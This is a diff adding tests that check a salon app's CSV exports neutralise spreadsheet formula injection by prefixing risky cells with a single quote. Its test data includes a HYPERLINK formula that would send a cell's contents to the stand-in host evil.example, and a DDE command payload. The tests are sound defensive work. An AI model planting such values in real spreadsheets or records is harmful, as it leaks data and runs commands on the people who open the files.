@@ -1,7 +1,9 @@
+import { SHEET_COLUMNS } from '@piiq/domain/catalogue-sheet';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createAppointment, createOrder, createStaffMember, createUser, grantSalonAccess } from '../test/factories.ts';
-import { signedInSalonAdmin } from '../test/sign-in.ts';
+import { betaLeads } from '../db/schema/signup.ts';
+import { createAppointment, createBrand, createCatalogueProduct, createOrder, createStaffMember, createUser, grantSalonAccess } from '../test/factories.ts';
+import { signedInSalonAdmin, signInAs } from '../test/sign-in.ts';
 import { startTestServer, type TestServer } from '../test/test-server.ts';
 
 let test: TestServer;
@@ -67,5 +69,101 @@ describe('CSV exports', () => {
       expect(refused.response.statusCode).toBe(404);
     }
     expect((await download('/exports/not-a-salon/orders.csv', stranger.cookie)).response.statusCode).toBe(404);
+  });
+});
+
+/** What a client may call themselves: spreadsheets would run it, sending the row's neighbours away. */
+const FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';
+
+async function signedInProviderStaff() {
+  const staff = await createUser(db(), { isProviderStaff: true });
+  return signInAs(test, staff.email);
+}
+
+describe('a cell that would run as a formula', () => {
+  it('is written after a single quote in the appointments', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
+    const client = await createUser(db(), { name: FORMULA, profileRole: 'Client' });
+    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
+    const stylist = await createStaffMember(db(), salon.id, { name: '-Mia' });
+    await createAppointment(db(), salon.id, { clientId: client.id, staffId: stylist.id, createdAt: new Date('2026-02-05T02:45:00Z') });
+
+    const { rows } = await download(`/exports/${salon.id}/appointments.csv`, cookie);
+    expect(rows[1]).toEqual([`'${FORMULA}`, '1', '05/02/2026 13:45', "'-Mia", 'N/A', 'N/A']);
+  });
+
+  it('is written after a single quote in the clients', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test, { timeZone: 'Australia/Sydney' });
+    const client = await createUser(db(), { name: FORMULA, profileRole: 'Client' });
+    await grantSalonAccess(db(), client.id, salon.id, { salonClient: true });
+    const stylist = await createStaffMember(db(), salon.id, { name: '@Mia' });
+    await createAppointment(db(), salon.id, { clientId: client.id, staffId: stylist.id, createdAt: new Date('2026-02-05T02:45:00Z') });
+
+    const { rows } = await download(`/exports/${salon.id}/clients.csv`, cookie);
+    expect(rows[1]).toEqual([`'${FORMULA}`, '1', '05/02/2026 13:45', "'@Mia", client.id]);
+  });
+
+  it('is written after a single quote in the stylists', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test);
+    const stylist = await createStaffMember(db(), salon.id, { name: "+cmd|' /C calc'!A0" });
+    await createAppointment(db(), salon.id, { staffId: stylist.id });
+
+    const { rows } = await download(`/exports/${salon.id}/stylists.csv?view=all`, cookie);
+    expect(rows[1]).toEqual(["'+cmd|' /C calc'!A0", '1', '0', '0', '0%', '0%']);
+  });
+
+  it('is written after a single quote in the orders, and a price stays a number', async () => {
+    const { salon, cookie } = await signedInSalonAdmin(test);
+    await createOrder(db(), salon.id, [{ productName: 'Shampoo', quantity: 1, totalCents: 3495 }], { firstName: FORMULA, lastName: '', email: '@evil.example' });
+
+    const { rows } = await download(`/exports/${salon.id}/orders.csv`, cookie);
+    expect(rows[1]?.slice(2)).toEqual(["'@evil.example", `'${FORMULA}`, '34.95', '0.00', '34.95', 'AUD']);
+  });
+
+  it('is written after a single quote in the leads', async () => {
+    const cookie = await signedInProviderStaff();
+    await db()
+      .insert(betaLeads)
+      .values({ betaName: FORMULA, betaEmail: 'lead@example.com', betaSalonName: '\tTab Hair', betaPhone: '+61412345678', plan: 'GROWTH', notes: '\r=1+1', createdAt: new Date('2026-11-03T01:00:00Z') });
+
+    const { response, rows } = await download('/exports/leads.csv', cookie);
+    expect(response.statusCode).toBe(200);
+    expect(rows.slice(1)).toEqual([['03/11/2026 12:00', `'${FORMULA}`, 'lead@example.com', "'\tTab Hair", "'+61412345678", 'GROWTH', 'New', "'\r=1+1"]]);
+  });
+
+  it('is written after a single quote in the catalogue, whose sheet still imports back unchanged', async () => {
+    const cookie = await signedInProviderStaff();
+    const brand = await createBrand(db(), { name: `@Evil Botanics ${Date.now()}` });
+    const product = await createCatalogueProduct(db(), brand.id, {
+      productName: FORMULA,
+      description: '-Gentle on colour',
+      bullets: ['+Shine', 'Soft'],
+      directions: "'=Already quoted",
+      ingredients: '\uFF1DFull width',
+      productSize: '250ml',
+    });
+
+    const response = await test.server.app.inject({ url: `/exports/catalogue.csv?brandId=${brand.id}`, headers: { cookie } });
+    const rows = parse(response.body, { bom: true }) as string[][];
+    const cells = Object.fromEntries(SHEET_COLUMNS.map((column, index) => [column.header, rows[1]?.[index]]));
+    expect(cells).toMatchObject({
+      SKU: product.sku,
+      Brand: `'${brand.name}`,
+      ProductName: `'${FORMULA}`,
+      ProductSize: '250ml',
+      Description: "'-Gentle on colour",
+      Bullets: "'+Shine|Soft",
+      Directions: "''=Already quoted",
+      Ingredients: "'\uFF1DFull width",
+      RRPAU: '34.95',
+    });
+
+    const preview = await test.server.app.inject({
+      method: 'POST',
+      url: '/console/catalogue/sheet?apply=false',
+      headers: { 'content-type': 'text/csv', cookie, 'x-piiq-csrf': '1', origin: 'http://localhost:3000' },
+      payload: response.body,
+    });
+    expect(preview.json()).toMatchObject({ problems: [], created: 0, updated: 0, unchanged: 1 });
   });
 });
